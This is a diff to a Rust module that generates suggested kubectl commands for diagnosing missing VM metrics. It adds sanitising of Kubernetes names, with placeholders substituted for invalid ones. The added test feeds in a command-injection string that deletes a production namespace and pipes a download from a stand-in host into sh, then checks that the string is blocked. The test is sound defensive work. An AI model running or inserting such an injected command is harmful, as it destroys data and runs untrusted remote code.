@@ -1,12 +1,20 @@
-//! What a person can do about a missing figure: commands and sentences, names filled in.
+//! What a person can do about a missing figure: commands and sentences, names filled in. Somebody copies these commands into
+//! a shell, and not every name was checked by Kubernetes: one that it would not take is left for that person to fill in.
 
 use std::borrow::Cow;
 
 use super::facts::{Image, Key};
 use crate::{
-    model::{message::Message, reason::Reason, source::SourceId},
+    model::{message::Message, name::in_command, reason::Reason, source::SourceId},
     words::{msg, permission},
 };
+
+/// What stands in a command for a name that is none.
+const NAMESPACE: &str = "NAMESPACE";
+const NAME: &str = "NAME";
+const NODE: &str = "NODE";
+const POD: &str = "POD";
+const CLAIM: &str = "CLAIM";
 
 /// The mend of a source that fails as a whole.
 pub(super) fn source(id: SourceId, reason: Reason) -> Message {
@@ -79,6 +87,7 @@ fn ask(id: SourceId) -> &'static str {
 
 /// The mend of one VM's figure.
 pub(super) fn figure(reason: Reason, namespace: &str, name: &str) -> Message {
+    let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(name, NAME));
     match reason {
         Reason::NoPod | Reason::TwoPods | Reason::AmbiguousPod => {
             format!("kubectl -n {namespace} get pods -l kubevirt.io=virt-launcher").into()
@@ -95,17 +104,18 @@ pub(super) fn figure(reason: Reason, namespace: &str, name: &str) -> Message {
 /// Where to look when a VM does not run: KubeVirt's object, or the Wukong that has none.
 pub(super) fn stuck(namespace: &str, vm_name: &str, name: &str) -> Message {
     let (kind, name) = if vm_name.is_empty() { ("wukong", name) } else { ("virtualmachine", vm_name) };
+    let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(name, NAME));
     msg!(mend.describe, command = format!("kubectl -n {namespace} describe {kind} {name}"))
 }
 
 /// The mend of a volume that the node's kubelet leaves out.
 pub(super) fn unlisted(node: &str) -> Message {
-    msg!(mend.unlisted, command = summary_of(node))
+    msg!(mend.unlisted, command = summary_of(in_command(node, NODE)))
 }
 
 /// The mend of a claim that Prometheus has no series of.
 pub(super) fn unscraped(claim: &Key) -> Message {
-    let (namespace, name) = (&claim.namespace, &claim.name);
+    let (namespace, name) = (in_command(&claim.namespace, NAMESPACE), in_command(&claim.name, CLAIM));
     let query = format!(
         r#"kubelet_volume_stats_used_bytes{{namespace="{namespace}",persistentvolumeclaim="{name}"}}"#
     );
@@ -151,6 +161,7 @@ pub(super) fn guest(reason: Reason, namespace: &str, name: &str) -> Message {
     match reason {
         Reason::Forbidden => source(SourceId::GuestAgent, reason),
         _ => {
+            let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(name, NAME));
             let command = format!("kubectl -n {namespace} get virtualmachineinstance {name} -o yaml");
             msg!(mend.look_agent, command = command)
         }
@@ -159,6 +170,7 @@ pub(super) fn guest(reason: Reason, namespace: &str, name: &str) -> Message {
 
 /// The mend of a volume whose kubelet fails.
 pub(super) fn kubelet(reason: Reason, node: &str) -> Message {
+    let node = in_command(node, NODE);
     match reason {
         Reason::Forbidden => source(SourceId::Kubelet, reason),
         Reason::Unreachable | Reason::TimedOut => msg!(mend.node_down, node = node, command = describe(node)),
@@ -168,10 +180,12 @@ pub(super) fn kubelet(reason: Reason, node: &str) -> Message {
 
 /// The mend of a pod of which metrics-server has no sample.
 pub(super) fn unsampled(node: &str, namespace: &str, pod: &str) -> Message {
-    match node {
-        "" => msg!(mend.top_pod, command = format!("kubectl top pod -n {namespace} {pod}")),
-        _ => msg!(mend.unscraped_node, node = node, command = describe(node)),
+    if node.is_empty() {
+        let (namespace, pod) = (in_command(namespace, NAMESPACE), in_command(pod, POD));
+        return msg!(mend.top_pod, command = format!("kubectl top pod -n {namespace} {pod}"));
     }
+    let node = in_command(node, NODE);
+    msg!(mend.unscraped_node, node = node, command = describe(node))
 }
 
 /// The mend of memory that no pod's working set counts. `told`: by a Prometheus, so that the VM's page shows it.
@@ -190,6 +204,32 @@ fn summary_of(node: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_text_that_is_no_name_is_in_no_command() {
+        let evil = "n1: kubectl delete namespace prod; curl evil | sh";
+        let claim = Key::new(evil, evil);
+        for mend in [
+            figure(Reason::NoPod, evil, evil),
+            figure(Reason::NoVmName, evil, evil),
+            figure(Reason::NoAllocation, "shop", evil),
+            stuck("shop", evil, "web"),
+            stuck(evil, "", evil),
+            unlisted(evil),
+            unscraped(&claim),
+            guest(Reason::Unreachable, evil, evil),
+            kubelet(Reason::Unreachable, evil),
+            kubelet(Reason::BadAnswer, evil),
+            unsampled(evil, "shop", "pod"),
+            unsampled("", evil, evil),
+        ] {
+            let said = mend.to_string();
+            assert!(!said.contains("delete") && !said.contains("evil"), "{said}");
+            let placeholders = ["NAMESPACE", "NAME", "NODE", "POD", "CLAIM"];
+            assert!(placeholders.iter().any(|placeholder| said.contains(placeholder)), "{said}");
+        }
+        assert_eq!(stuck("shop", "web-vm", "web").to_string().matches("web-vm").count(), 1);
+    }
 
     #[test]
     fn a_name_is_one_word_of_a_command() {
